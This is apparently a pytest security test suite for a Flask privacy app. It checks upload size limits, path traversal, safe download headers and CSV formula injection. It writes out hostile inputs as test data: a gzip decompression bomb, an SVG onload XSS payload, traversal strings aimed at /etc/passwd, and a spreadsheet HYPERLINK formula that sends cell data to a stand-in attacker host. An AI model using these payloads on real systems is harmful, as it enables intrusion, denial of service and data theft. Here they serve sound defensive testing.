"""Files: how large, what kind, where they lie, and how they are handed out."""

import ast
import csv
import gzip
import io
import json
import re
from pathlib import Path

import pytest
from flask.testing import FlaskClient

from tests.checklist.expectations import EXPECTED
from tests.checklist.world import World
from tests.factories import account
from trustivide.auth.models import User
from trustivide.core.db import transaction
from trustivide.workshops.cards import load_library

ROOT = Path(__file__).parents[2]
CHECK = "/privacy/receipt"


def upload(client: FlaskClient, *files: tuple[str, bytes], **more: str) -> int:
    data = {**more, "file": [(io.BytesIO(content), name) for name, content in files]}
    answer = client.post(CHECK, data=data, content_type="multipart/form-data")
    assert "äkta och oförändrat" not in answer.text
    return int(answer.status_code)


def test_checklist_38_uploads_are_few_small_and_never_unpacked(client: FlaskClient) -> None:
    """A receipt is JSON below 200 KB; lists of people are put to the test in tests/teams."""
    assert upload(client, ("kvitto.json", b"x" * 200_001)) == 422
    assert upload(client, ("kvitto.json", b"x" * 2_700_000)) == 413
    nested = b"[" * 100_000 + b"]" * 100_000
    number = b'{"signature": {"key_version": ' + b"9" * 190_000 + b', "value": "00"}}'
    bomb = gzip.compress(b'{"a": "' + b"0" * 50_000_000 + b'"}')
    zipped = b"PK\x03\x04" + b"\0" * 1000
    for name, content in (
        ("kvitto.json", nested),
        ("kvitto.json", number),
        ("kvitto.json.gz", bomb),
        ("kvitto.zip", zipped),
        ("kvitto.exe", b"MZ" + b"\xff" * 1000),
        ("../../kvitto.json", b"{}"),
        ("", b"{}"),
        ("kvitto.svg", b"<svg onload=alert(1)>"),
    ):
        assert upload(client, (name, content)) in {200, 422}, name
    # Number of parts and of fields, and a body that says it is compressed.
    assert upload(client, *[(f"{n}.json", b"{}") for n in range(1100)]) == 413
    many = {f"f{n}": "x" for n in range(1100)}
    assert upload(client, ("kvitto.json", b"{}"), **many) == 413
    packed = client.post(CHECK, data=bomb, headers={"Content-Encoding": "gzip"})
    assert packed.status_code in {400, 413, 415, 422}
    assert client.post(CHECK, data={"receipt": "x" * 600_000}).status_code in {413, 422}


def test_checklist_38_nothing_that_comes_from_outside_is_unpacked_or_deserialised() -> None:
    forbidden = {"pickle", "marshal", "shelve", "tarfile", "dill", "jsonpickle", "xmlrpc"}
    opened = []
    for path in (ROOT / "trustivide").rglob("*.py"):
        tree = ast.parse(path.read_text())
        for node in ast.walk(tree):
            names = [a.name for a in node.names] if isinstance(node, ast.Import) else []
            if isinstance(node, ast.ImportFrom):
                names = [node.module or ""]
            assert not forbidden & {name.split(".")[0] for name in names}, path
            if isinstance(node, ast.Call):
                called = ast.unparse(node.func)
                assert called not in {"eval", "exec", "compile", "os.system"}, path
                assert called != "yaml.load" or "Loader=_StrictLoader" in ast.unparse(node)
                assert "shell=True" not in ast.unparse(node), path
                if called.endswith("ZipFile"):
                    mode = ast.unparse(node.args[1]) if len(node.args) > 1 else "'r'"
                    opened.append((mode, str(path.relative_to(ROOT))))
    # Made here, but for what is handed in: looked over before it is unpacked.
    handed_in = {"trustivide/core/documents.py", "trustivide/core/tables.py"}
    assert {path for mode, path in opened if mode != "'w'"} == handed_in


@pytest.mark.parametrize("role", ["owner", "staff-owner", "stranger"])
def test_checklist_39_no_name_leads_out_of_its_folder(world: World, role: str) -> None:
    secret = world.app.config["SETTINGS"].secret_key
    tricks = (
        "..%2f..%2f..%2fetc%2fpasswd",
        "%2e%2e/%2e%2e/wsgi.py",
        "..\\..\\keys.json",
        "....//....//wsgi",
        "%2fetc%2fpasswd",
        "keys.json%00.json",
        "C:%5cwindows",
    )
    tried = 0
    for rule in world.app.url_map.iter_rules():
        free = [n for n in rule.arguments if not _is_checked(rule, n)]
        if not free or not (EXPECTED[rule.endpoint].reaches(role) or rule.endpoint == "static"):
            continue
        for trick in tricks:
            values = world.values(role, rule.endpoint) | {"filename": "x"}
            path = str(rule)
            for name in rule.arguments:
                value = trick if name in free else values[name]
                path = re.sub(rf"<(?:\w+:)?{name}>", lambda _, v=value: v, path)
            answer = world.open(role, path)
            tried += 1
            assert answer.status_code < 500, path
            for inside in ("root:", secret, "create_app", '"cipher"'):
                assert inside not in answer.text, path
    assert tried > 20


def _is_checked(rule: object, name: str) -> bool:
    kind = rule._converters[name].__class__.__name__  # type: ignore[attr-defined]
    return kind in {"UUIDConverter", "IntegerConverter"}


def test_checklist_40_a_download_is_saved_and_its_name_is_harmless(world: World) -> None:
    """RFC 6266: a name in ASCII, the real one beside it where that isn't enough (RFC 8187)."""
    found = {}
    copy = f"/privacy/organisation/{world.ids['organisation_id']}/copy/file"
    got = {
        "export": world.open("owner", f"/privacy/export/{world.ids['export_id']}/file"),
        "copy": world.open("owner", copy),
        "consent": world.open("owner", f"/privacy/consents/records/{world.ids['consent']}.json"),
    }
    slugs = {card.slug: card.title for card in load_library() if card.language == "sv"}
    odd = next(slug for slug, title in slugs.items() if re.search("[åäöÅÄÖ]", title))
    with world.restored():
        got["guide"] = world.open("owner", f"/workshops/{odd}/downloads", "POST")
    with world.restored():
        got["looks"] = world.open("privacy", "/admin/looks/export", "POST")
        log = {"kind": "csv"}
        got["log"] = world.open("privacy", "/admin/audit/export", "POST", data=log)
    for what, answer in got.items():
        assert answer.status_code == 200, what
        header = answer.headers["Content-Disposition"]
        assert header.startswith("attachment; filename"), what
        name = re.search(r'filename="?([^";]+)"?', header)
        assert name
        assert re.fullmatch(r"[A-Za-z0-9 ._-]+\.(zip|json|pdf|csv)", name.group(1)), header
        assert header.isascii()
        assert answer.headers["X-Content-Type-Options"] == "nosniff"
        assert answer.headers["Cache-Control"] == "no-store"
        kind = answer.mimetype.split("/")[1]
        assert kind in {"zip", "json", "pdf", "csv"}
        found[what] = header
    assert "filename*=UTF-8''" in found["guide"]
    assert json.loads(got["consent"].data)


def test_checklist_35_a_colleagues_name_is_no_formula_either(world: World) -> None:
    with world.restored():
        with transaction() as session:
            user = account("support@trustivide.test")
            session.get_one(User, user.id).name = '=HYPERLINK("http://evil.test?"&A1;"Klicka")'
        reason = {"reason": "Alice ringde oss om sitt konto."}
        path = f"/admin/users/{world.ids['user_id']}/looks"
        assert world.open("support", path, "POST", data=reason).status_code == 303
        sent = world.open("privacy", "/admin/looks/export", "POST").data.decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(sent)) for cell in row]
    assert any("HYPERLINK" in cell for cell in cells), sent
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
